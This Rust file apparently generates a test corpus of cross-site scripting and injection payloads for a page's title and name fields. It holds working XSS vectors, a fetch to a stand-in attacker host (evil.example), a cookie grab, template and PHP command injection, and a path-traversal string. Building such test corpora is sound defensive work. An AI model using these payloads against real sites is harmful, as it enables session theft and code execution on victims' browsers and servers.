//! What an enemy writes where a title or a name is expected: for tests, of the page and over HTTP.

/// Least payloads that the corpus must hold.
pub const PAYLOADS_MIN: usize = 200;

/// All of them, each another.
pub fn payloads() -> Vec<String> {
    let scripts = ["alert(1)", "fetch('//evil.example')", "parent.document.cookie"];
    let openers =
        ["", "\">", "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "</bdi>", "]]>", "</svg>"];
    let bodies = [
        "<script>@</script>",
        "<ScRiPt src=//evil.example></ScRiPt>",
        "<img src=x onerror=@>",
        "<svg/onload=@>",
        "<svg><script>@</script></svg>",
        "<iframe srcdoc='<script>@</script>'>",
        "<body onload=@>",
        "<a href=javascript:@>x</a>",
        "<math><mi xlink:href=javascript:@>",
        "<details open ontoggle=@>",
        "<input autofocus onfocus=@>",
        "<video><source onerror=@>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=javascript:@>",
        "<link rel=stylesheet href=//evil.example>",
        "<style>@import '//evil.example';</style>",
        "<form action=//evil.example><button>",
    ];
    let mut all: Vec<String> = Vec::new();
    for (at, opener) in openers.iter().enumerate() {
        for (number, body) in bodies.iter().enumerate() {
            all.push(format!("{opener}{}", body.replace('@', scripts[(at + number) % scripts.len()])));
        }
    }
    for plain in [
        "\" onmouseover=alert(1) x=\"",
        "' onmouseover=alert(1) x='",
        "` onmouseover=alert(1)",
        "\" autofocus onfocus=alert(1) \"",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\u{ff1c}script\u{ff1e}alert(1)",
        "<\u{0}script>alert(1)</script>",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "<!--#exec cmd=\"id\"-->",
        "<?php system('id'); ?>",
        "<%= 7 * 7 %>",
        "\u{202e}txet sdrawkcab<script>",
        "\\\"><script>alert(1)</script>",
        "\n\r<script>alert(1)</script>",
        "<<script>script>alert(1)<</script>/script>",
        "../../etc/passwd\"><script>",
    ] {
        all.push(plain.to_owned());
    }
    all
}
